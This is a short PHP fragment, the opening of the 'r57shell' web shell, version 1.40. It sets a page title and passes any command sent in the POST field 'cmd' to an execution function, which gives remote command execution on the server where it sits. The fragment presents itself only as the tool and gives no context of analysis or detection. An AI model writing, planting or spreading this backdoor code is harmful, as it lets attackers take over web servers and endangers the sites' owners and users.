<?php
$version = '1.40';
echo "<title>r57shell " . $version . "</title>";
if (!empty($_POST['cmd'])) { $cmd_rep = ex($_POST['cmd']); }
